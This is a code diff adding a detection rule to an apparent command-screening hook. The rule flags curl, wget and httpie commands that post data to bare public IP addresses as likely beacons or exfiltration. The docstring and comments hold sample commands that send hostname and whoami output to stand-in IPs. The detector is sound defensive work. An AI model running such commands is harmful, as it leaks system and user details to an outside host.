@@ -621,3 +621,62 @@ def rule_decoded_operand(cmd: Cmd, found: list[Finding]) -> None:
                 )
             )
             return
+
+
+_DATA_FLAGS = frozenset({
+    "-d", "-F", "-T", "--json", "--form", "--form-string", "--upload-file", "--post-data",
+    "--post-file", "--body-data", "--body-file",
+})  # fmt: skip
+_BARE_IP_URL = re.compile(r"^(?:[a-z]+://)?(?:[^@/\s]*@)?(?P<ip>\d{1,3}(?:\.\d{1,3}){3})(?::\d+)?(?:[/?#]|$)")
+# Addresses that stay on this machine or a private network (loopback, RFC 1918, CGNAT, link-local).
+_LOCAL_NETS = (
+    "127.0.0.0/8",
+    "10.0.0.0/8",
+    "172.16.0.0/12",
+    "192.168.0.0/16",
+    "100.64.0.0/10",
+    "169.254.0.0/16",
+    "0.0.0.0/8",
+)
+
+
+def _public_ip(ip: str) -> bool:
+    import ipaddress  # only when a bare address is seen: keeps the hook's start-up light
+
+    try:
+        addr = ipaddress.IPv4Address(ip)
+    except ValueError:
+        return False
+    return not any(addr in ipaddress.IPv4Network(net) for net in _LOCAL_NETS)
+
+
+def rule_send_to_address(cmd: Cmd, found: list[Finding]) -> None:
+    """``curl -d "$(hostname)" http://198.51.100.8/b``, ``wget --post-file=x 203.0.113.4``: data
+    sent to a bare public IP address, with no host name a reviewer could recognise, is the
+    shape of a beacon or an exfiltration (posting to localhost or a private address is local
+    testing and passes)."""
+    if cmd.name not in ("curl", "wget", "http", "https", "xh"):
+        return
+    lits = [w.text for w in cmd.args]  # --post-data="u=$(whoami)": the option, whatever its value
+    sends = any(
+        lit in _DATA_FLAGS
+        or lit.startswith(("--data", "--post-", "--body-", "--json=", "--form="))
+        or re.fullmatch(r"-[a-zA-Z]*[dFT]", lit) is not None
+        or (lit.startswith("-d") and not lit.startswith("--"))
+        for lit in lits
+    ) or (cmd.name in ("http", "https", "xh") and any(re.match(r"^[\w.-]+(?:=|:=|@)", w.text) for w in cmd.args))
+    if not sends:
+        return
+    for word in cmd.args:
+        for value in cmd.values(word) or []:
+            m = _BARE_IP_URL.match(value)
+            if m and _public_ip(m.group("ip")):
+                found.append(
+                    (
+                        "ask",
+                        f"`{cmd.display}` sends data to the bare internet address {m.group('ip')} (no host name "
+                        "anyone could recognise), the shape of a beacon or an exfiltration; confirm, or send it "
+                        "to the service's named host.",
+                    )
+                )
+                return
